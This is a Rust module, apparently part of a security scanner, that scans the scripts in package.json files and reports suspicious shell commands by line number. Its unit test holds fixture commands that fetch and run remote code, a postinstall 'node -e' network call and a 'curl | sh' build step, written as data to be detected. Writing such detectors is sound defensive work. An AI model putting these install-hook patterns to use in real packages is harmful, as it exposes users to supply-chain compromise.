//! `package.json` scripts: npm, pnpm, yarn and bun run each one with `sh -c` (lifecycle
//! scripts such as `postinstall` run on every install, which is where `node -e` one-liners
//! live). Each script is scanned as shell text on the line its key is on.

use crate::detect::{self as guard, Finding};

/// The line (1-based) of the first `"key"` at or after byte `from`, and the offset after it.
fn key_line(text: &str, key: &str, from: usize) -> Option<(usize, usize)> {
    let quoted = serde_json::to_string(key).ok()?;
    let at = from + text.get(from..)?.find(&quoted)?;
    Some((text[..at].matches('\n').count() + 1, at + quoted.len()))
}

/// Scans the `scripts` of a package.json. Text that is not a JSON object with a
/// `scripts` object gives no findings.
pub(crate) fn scan(text: &str) -> Vec<Finding> {
    let Ok(serde_json::Value::Object(root)) = serde_json::from_str::<serde_json::Value>(text)
    else {
        return Vec::new();
    };
    let Some(serde_json::Value::Object(scripts)) = root.get("scripts") else {
        return Vec::new();
    };
    let Some((_, pos)) = key_line(text, "scripts", 0) else {
        return Vec::new();
    };
    let mut out = Vec::new();
    // serde_json's map keeps keys sorted, not in file order: find each key's line by its
    // own position after "scripts".
    let mut keyed: Vec<(usize, &str, &str)> = scripts
        .iter()
        .filter_map(|(k, v)| {
            let (line, _) = key_line(text, k, pos)?;
            Some((line, k.as_str(), v.as_str()?))
        })
        .collect();
    keyed.sort();
    for (line, _key, script) in keyed {
        for mut f in guard::scan_shell(script, line) {
            f.line = line;
            out.push(f);
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lifecycle_scripts_on_their_lines() {
        let pkg = "{\n  \"name\": \"x\",\n  \"scripts\": {\n    \"test\": \"node test.js\",\n    \"postinstall\": \"node -e \\\"require('https').get('https://x/p')\\\"\",\n    \"build\": \"curl -fsSL https://x/b.sh | sh\"\n  }\n}\n";
        let got: Vec<(usize, &str)> = scan(pkg).into_iter().map(|f| (f.line, f.rule)).collect();
        assert_eq!(got, vec![(5, "GUARD001"), (6, "GUARD002")]);
        assert!(scan("[1, 2]").is_empty());
        assert!(scan("{\"scripts\": 3}").is_empty());
    }
}
